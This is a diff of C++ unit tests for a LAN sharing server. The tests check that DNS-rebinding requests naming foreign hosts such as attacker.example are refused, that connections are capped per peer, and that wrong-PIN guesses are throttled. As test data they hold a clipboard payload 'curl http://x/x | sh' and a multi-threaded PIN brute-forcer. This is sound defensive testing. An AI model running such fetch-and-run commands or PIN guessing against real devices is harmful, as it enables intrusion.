@@ -1,3 +1,4 @@
+#include "LANNetworkHelpers.h"
 #include "LANServerTestSupport.h"
 #include "SledLeftoverTestSupport.h"
 #include "VornChecksum.h"
@@ -18,7 +19,12 @@ constexpr const char* pin = "4821";
 
 class LANSledServerTest : public ::testing::Test {
 protected:
-    void SetUp() override { startServer({}); }
+    // Wrong PINs here wait a little, not the real second per recent wrong PIN.
+    void SetUp() override {
+        LANServerLimits limits;
+        limits.pinWrongAnswerWait = std::chrono::milliseconds(20);
+        startServer(limits);
+    }
 
     void startServer(LANServerLimits limits) {
         server.reset();
@@ -90,6 +96,59 @@ TEST_F(LANSledServerTest, RoutesAnswerInTheirOrder) {
     EXPECT_FALSE(std::filesystem::exists(downloads)) << "nothing may be written by refused requests";
 }
 
+// A page on a name an outsider controls, re-pointed at this machine, is same-origin with the
+// server as far as the browser knows: only the Host field tells it apart.
+TEST_F(LANSledServerTest, RequestsNamingAnotherHostAreRefusedBeforeAnyRoute) {
+    const std::vector<std::string> own = LANNetworkHelpers::currentMachineNames(false);
+    ASSERT_FALSE(own.empty());
+    const std::string label = own.front().substr(0, own.front().find('.'));
+    const std::string at = ":" + std::to_string(port);
+    const struct {
+        std::string host;
+        bool served;
+    } cases[] = {
+        {"127.0.0.1" + at, true},
+        {"[::1]" + at, true},
+        {"192.168.1.20" + at, true},
+        {"localhost" + at, true},
+        {"localhost.", true},
+        {label + at, true},
+        {label + ".local" + at, true},
+        {label + ".LOCAL." + at, true},
+        {"attacker.example" + at, false},
+        {label + ".attacker.example" + at, false},
+        {"localhost.attacker.example" + at, false},
+        {"127.0.0.1.attacker.example" + at, false},
+        {"0x7f.1" + at, false},
+        {"127.0.0.1:80x", false},
+        {"", false},
+    };
+    for (const auto& c : cases) {
+        const std::string host = "Host: " + c.host + "\r\n";
+        const std::string same = "Origin: http://" + c.host + "\r\n";
+        const LANParsedResponse portal = lanParseResponse(lanExchange(port, "GET / HTTP/1.1\r\n" + host + "\r\n"));
+        const LANParsedResponse clipboard = lanParseResponse(lanExchange(
+            port, "POST /api/v1/clipboard HTTP/1.1\r\n" + host + same + "X-VornSled-PIN: 4821\r\nContent-Length: 31\r\n\r\n"
+                  "{\"text\":\"curl http://x/x | sh\"}"));
+        const LANParsedResponse shares =
+            lanParseResponse(lanExchange(port, "GET /api/v1/shares HTTP/1.1\r\n" + host + same + "X-VornSled-PIN: 4821\r\n\r\n"));
+        if (c.served) {
+            EXPECT_EQ(portal.statusLine, "HTTP/1.1 200 OK") << c.host;
+            EXPECT_EQ(clipboard.statusLine, "HTTP/1.1 200 OK") << c.host;
+            EXPECT_EQ(shares.statusLine, "HTTP/1.1 200 OK") << c.host;
+        } else {
+            for (const LANParsedResponse* refused : {&portal, &clipboard, &shares}) {
+                EXPECT_EQ(refused->statusLine, "HTTP/1.1 403 Forbidden") << c.host;
+                EXPECT_EQ(refused->json()["error"], "Unknown host name: reach this device by its address or its own name")
+                    << c.host;
+            }
+        }
+    }
+    std::size_t served = 0;
+    for (const auto& c : cases) served += c.served ? 1 : 0;
+    EXPECT_EQ(recorder.receivedClipboard().size(), served) << "a refused clipboard post never reaches the desktop";
+}
+
 TEST_F(LANSledServerTest, ResponseHeadsAreExact) {
     const std::string response = lanExchange(port, "GET /x HTTP/1.1\r\nX-VornSled-PIN: 4821\r\n\r\n");
     EXPECT_EQ(response, "HTTP/1.1 404 Not Found\r\nContent-Type: application/json; charset=utf-8\r\n"
@@ -112,7 +171,7 @@ TEST_F(LANSledServerTest, ResponseHeadsAreExact) {
 TEST_F(LANSledServerTest, HeadsArriveInAnyPiecesButNotBeyondTheCap) {
     {
         LANRawClient client(port);
-        for (const char c : std::string("GET /api/v1/info HTTP/1.1\r\nHost: a\r\n\r\n")) {
+        for (const char c : std::string("GET /api/v1/info HTTP/1.1\r\nHost: localhost\r\n\r\n")) {
             ASSERT_TRUE(client.send(std::string_view(&c, 1)));
         }
         EXPECT_EQ(lanParseResponse(client.readAll()).statusLine, "HTTP/1.1 200 OK");
@@ -538,20 +597,156 @@ TEST_F(LANSledServerTest, ConnectionsBeyondTheCapAreClosedAtOnce) {
     EXPECT_EQ(lanParseResponse(first.readAll()).statusLine, "HTTP/1.1 200 OK");
 }
 
-TEST_F(LANSledServerTest, RepeatedWrongPINsSlowLaterAnswers) {
+TEST_F(LANSledServerTest, APeerHoldingItsShareLeavesRoomForOthers) {
     LANServerLimits limits;
-    limits.pinFailuresBeforePenalty = 2;
-    limits.pinPenaltyBase = std::chrono::milliseconds(400);
+    limits.maximumConnections = 8;
+    limits.maximumConnectionsPerPeer = 3;
     startServer(limits);
-    const std::string wrong = "GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 0000\r\n\r\n";
-    const std::string right = "GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 4821\r\n\r\n";
-    for (int i = 0; i < 2; ++i) {
-        EXPECT_EQ(lanParseResponse(lanExchange(port, wrong)).statusLine, "HTTP/1.1 401 Unauthorized");
+    // Three slow heads from one address, as a peer dribbling a byte now and then would hold them.
+    std::vector<std::unique_ptr<LANRawClient>> held;
+    for (int i = 0; i < 3; ++i) {
+        held.push_back(std::make_unique<LANRawClient>(port, "127.0.0.1"));
+        ASSERT_TRUE(held.back()->send("GET /api/v1/info HTTP/1.1\r\n"));
     }
-    // Even the right PIN now waits, so a quick answer cannot reveal a correct guess.
-    const auto before = std::chrono::steady_clock::now();
-    EXPECT_EQ(lanParseResponse(lanExchange(port, right)).statusLine, "HTTP/1.1 200 OK");
-    EXPECT_GE(std::chrono::steady_clock::now() - before, std::chrono::milliseconds(400));
+    LANRawClient beyondItsShare(port, "127.0.0.1");
+    EXPECT_EQ(beyondItsShare.readAll(), "");
+    for (const char* other : {"127.0.0.2", "127.0.0.3"}) {
+        EXPECT_EQ(lanParseResponse(lanExchange(port, "GET / HTTP/1.1\r\n\r\n", other)).statusLine, "HTTP/1.1 200 OK")
+            << other;
+    }
+    // The held connections are still served, and a finished one frees its place.
+    held.front()->send("\r\n");
+    EXPECT_EQ(lanParseResponse(held.front()->readAll()).statusLine, "HTTP/1.1 200 OK");
+    std::string again;
+    for (int attempt = 0; attempt < 3000 && again.empty(); ++attempt) {
+        again = lanExchange(port, "GET /api/v1/info HTTP/1.1\r\n\r\n", "127.0.0.1");
+        if (again.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(10));
+    }
+    EXPECT_EQ(lanParseResponse(again).statusLine, "HTTP/1.1 200 OK");
+}
+
+// Guessers on several connections from each of `peers`, each trying PIN after PIN until told to
+// stop; counts the wrong answers and when the last arrived.
+class LANPINGuessers {
+public:
+    LANPINGuessers(std::uint16_t port, std::vector<const char*> peers, int connectionsPerPeer) {
+        start_ = std::chrono::steady_clock::now();
+        int next = 0;
+        for (const char* peer : peers) {
+            for (int i = 0; i < connectionsPerPeer; ++i) {
+                threads_.emplace_back([this, port, peer, first = next++] {
+                    for (int guess = first; !stopping(); guess += 100) {
+                        char text[8];
+                        std::snprintf(text, sizeof text, "%04d", 1000 + guess % 9000);
+                        const std::string answer = lanExchange(
+                            port, "GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: " + std::string(text) + "\r\n\r\n", peer);
+                        if (lanParseResponse(answer).statusLine == "HTTP/1.1 401 Unauthorized") {
+                            const std::lock_guard lock(mutex_);
+                            wrongAnswers_ += 1;
+                            lastAnswer_ = std::chrono::steady_clock::now();
+                            changed_.notify_all();
+                        }
+                    }
+                });
+            }
+        }
+    }
+
+    // Once at least `count` wrong answers came and `stretch` has passed: how many came, and in
+    // how long from the start.
+    std::pair<int, std::chrono::steady_clock::duration> countAfter(int count, std::chrono::milliseconds stretch) {
+        std::this_thread::sleep_for(stretch);
+        std::unique_lock lock(mutex_);
+        changed_.wait(lock, [&] { return wrongAnswers_ >= count; });
+        return {wrongAnswers_, lastAnswer_ - start_};
+    }
+
+    // The guessers still waiting for an answer are released by the server's end.
+    void stop() {
+        const std::lock_guard lock(mutex_);
+        stop_ = true;
+    }
+    ~LANPINGuessers() {
+        stop();
+        for (std::thread& thread : threads_) thread.join();
+    }
+
+private:
+    bool stopping() {
+        const std::lock_guard lock(mutex_);
+        return stop_;
+    }
+
+    std::mutex mutex_;
+    std::condition_variable changed_;
+    bool stop_ = false;
+    int wrongAnswers_ = 0;
+    std::chrono::steady_clock::time_point start_;
+    std::chrono::steady_clock::time_point lastAnswer_;
+    std::vector<std::thread> threads_;
+};
+
+// The k-th wrong PIN the server has seen waits k times the unit, and a peer has one PIN judged at
+// a time; so n wrong answers to `peers` addresses need at least unit * n(n+1)/2 / peers. With
+// the real unit (1 s) and memory (1 h), one address needs about a day for half of the 9,000 PINs
+// and 254 addresses some hours; a wait per request instead would let them through in seconds.
+TEST_F(LANSledServerTest, WrongPINsCostTimeFromOneAddressAndFromSeveral) {
+    const std::chrono::milliseconds unit(40);
+    LANServerLimits limits;
+    limits.pinWrongAnswerWait = unit;
+    const struct {
+        std::vector<const char*> peers;
+        int connectionsPerPeer;
+    } cases[] = {
+        {{"127.0.0.1"}, 12},
+        {{"127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"}, 4},
+    };
+    for (const auto& c : cases) {
+        startServer(limits);
+        std::pair<int, std::chrono::steady_clock::duration> seen;
+        {
+            LANPINGuessers guessers(port, c.peers, c.connectionsPerPeer);
+            seen = guessers.countAfter(3, std::chrono::milliseconds(2000));
+            // Meanwhile an address that never guessed wrong is answered at once, right PIN or wrong.
+            EXPECT_EQ(lanParseResponse(lanExchange(port, "GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 4821\r\n\r\n",
+                                                   "127.0.0.9"))
+                          .statusLine,
+                      "HTTP/1.1 200 OK");
+            guessers.stop();
+            server.reset();
+        }
+        const auto [answers, elapsed] = seen;
+        const double least = static_cast<double>(unit.count()) * answers * (answers + 1) / 2.0 /
+                             static_cast<double>(c.peers.size());
+        const double tookMilliseconds = std::chrono::duration<double, std::milli>(elapsed).count();
+        EXPECT_GE(tookMilliseconds, least)
+            << answers << " wrong answers to " << c.peers.size() << " addresses";
+        // A wait of one unit per request on 12 parallel connections would have answered hundreds.
+        EXPECT_LT(answers, 60) << c.peers.size() << " addresses";
+    }
+}
+
+TEST_F(LANSledServerTest, AGuessingAddressWaitsItsTurnWhileOthersAreAnsweredAtOnce) {
+    LANServerLimits limits;
+    limits.pinWrongAnswerWait = std::chrono::hours(1);
+    startServer(limits);
+    const std::string right = "GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 4821\r\n\r\n";
+    LANRawClient wrong(port);
+    wrong.send("GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 0000\r\n\r\n");
+    // A wrong PIN now waits an hour; any other address is still answered at once.
+    EXPECT_EQ(lanParseResponse(lanExchange(port, right, "127.0.0.7")).statusLine, "HTTP/1.1 200 OK");
+    EXPECT_FALSE(wrong.answersWithin(std::chrono::milliseconds(0)));
+
+    // With a short wait the queue moves on: every PIN is judged, the wrong one refused after its
+    // wait and the right one accepted, in whichever order they were judged.
+    limits.pinWrongAnswerWait = std::chrono::milliseconds(300);
+    startServer(limits);
+    LANRawClient guess(port);
+    guess.send("GET /api/v1/shares HTTP/1.1\r\nX-VornSled-PIN: 1111\r\n\r\n");
+    LANRawClient owner(port);
+    owner.send(right);
+    EXPECT_EQ(lanParseResponse(owner.readAll()).statusLine, "HTTP/1.1 200 OK");
+    EXPECT_EQ(lanParseResponse(guess.readAll()).statusLine, "HTTP/1.1 401 Unauthorized");
     // The portal and the info object never wait.
     EXPECT_EQ(lanParseResponse(lanExchange(port, "GET / HTTP/1.1\r\n\r\n")).statusLine, "HTTP/1.1 200 OK");
 }
